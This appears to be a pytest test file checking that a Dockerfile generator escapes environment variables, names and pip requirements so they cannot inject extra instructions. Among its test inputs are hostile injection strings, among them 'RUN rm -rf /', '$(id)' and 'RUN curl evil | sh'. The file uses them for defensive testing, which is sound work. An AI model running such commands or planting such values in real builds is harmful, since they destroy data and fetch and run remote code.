"""Dockerfiles rendered from environments: right instructions, and no way to smuggle in others."""

from __future__ import annotations

import json
import sys

import pytest

from ember.environments import EnvironmentSpec, dockerfile, spec_hash
from ember.errors import InvalidInput

INSTRUCTIONS = ("FROM ", "LABEL ", "ENV ", "RUN ", "WORKDIR ")


def _docker_words(text: str) -> list[str]:
    """Split an ENV/LABEL argument the way Docker's word parser does (double quotes, ``\\`` escapes).

    Inside double quotes only ``\\"``, ``\\$`` and ``\\\\`` are escapes; an unescaped ``$`` would expand.
    """
    words: list[str] = []
    word: list[str] = []
    i, quoted = 0, False
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == "\\" and i + 1 < len(text) and text[i + 1] in '"$\\':
                word.append(text[i + 1])
                i += 2
                continue
            assert ch != "$", f"unescaped $ would be expanded in {text!r}"
            if ch == '"':
                quoted = False
            else:
                word.append(ch)
        elif ch == '"':
            quoted = True
        elif ch == " ":
            words.append("".join(word))
            word = []
        else:
            assert ch not in "\\$", f"unquoted {ch!r} in {text!r}"
            word.append(ch)
        i += 1
    assert not quoted, f"unterminated quote in {text!r}"
    words.append("".join(word))
    return words


def test_dockerfile_has_the_base_image_labels_packages_and_workdir() -> None:
    spec = EnvironmentSpec(python="3.11.7", pip=("six==1.16.0", "idna>=3"), env_vars={"MODE": "fast"})

    text = dockerfile("train-env", 3, spec)

    lines = text.splitlines()
    assert lines[1] == "FROM python:3.11.7-slim"
    labels = dict(w.split("=", 1) for w in _docker_words(lines[2].removeprefix("LABEL ")))
    assert labels == {
        "ember.environment.name": "train-env",
        "ember.environment.version": "3",
        "ember.environment.spec-hash": spec_hash(spec),
    }
    assert 'ENV MODE="fast"' in lines
    run = next(line for line in lines if line.startswith("RUN "))
    assert json.loads(run.removeprefix("RUN ")) == [
        "pip",
        "install",
        "--no-cache-dir",
        "six==1.16.0",
        "idna>=3",
    ]
    assert lines[-1] == "WORKDIR /app"


def test_default_python_is_the_current_one_and_no_packages_means_no_run() -> None:
    text = dockerfile("plain", 1, EnvironmentSpec())
    assert f"FROM python:{sys.version_info.major}.{sys.version_info.minor}-slim" in text
    assert "RUN" not in text


@pytest.mark.parametrize(
    "value",
    [
        'x" && RUN rm -rf / #',
        "$HOME ${PATH} $(id)",
        "back\\slash\\",
        'ends with backslash-quote \\"',
        '\\\\\\$\\"',
        "tab\tinside ünïcode",
    ],
)
def test_environment_values_cannot_inject_instructions(value: str) -> None:
    spec = EnvironmentSpec(env_vars={"EVIL": value})

    lines = dockerfile("env", 1, spec).splitlines()

    assert all(line.startswith(INSTRUCTIONS) for line in lines[1:])
    assert not any(line.rstrip().endswith("\\") for line in lines)  # no line continuation
    env_lines = [line for line in lines if line.startswith("ENV ")]
    assert len(env_lines) == 1
    assert _docker_words(env_lines[0].removeprefix("ENV ")) == [f"EVIL={value}"]


@pytest.mark.parametrize("value", ["a\rb", 'quote" \nRUN curl evil | sh', "line\\\nbreak", "bell\x07"])
def test_values_a_dockerfile_cannot_express_are_refused(value: str) -> None:
    with pytest.raises(InvalidInput, match="Dockerfile cannot express"):
        dockerfile("env", 1, EnvironmentSpec(env_vars={"V": value}))


def test_requirements_go_through_exec_form_without_a_shell() -> None:
    spec = EnvironmentSpec(pip=('tomli; python_version < "3.11"', "pkg @ https://h.example/p.whl#sha256=00"))
    run = next(line for line in dockerfile("env", 1, spec).splitlines() if line.startswith("RUN "))
    assert json.loads(run.removeprefix("RUN "))[3:] == list(spec.pip)


@pytest.mark.parametrize(
    ("name", "version", "spec"),
    [
        ("bad\nname", 1, EnvironmentSpec()),
        ("trailing-newline\n", 1, EnvironmentSpec()),
        ('x" FROM evil', 1, EnvironmentSpec()),
        ("ok", 0, EnvironmentSpec()),
        ("ok", 1, EnvironmentSpec(inherit_current=True)),
    ],
)
def test_bad_names_versions_and_inherited_environments_are_refused(
    name: str, version: int, spec: EnvironmentSpec
) -> None:
    with pytest.raises(InvalidInput):
        dockerfile(name, version, spec)
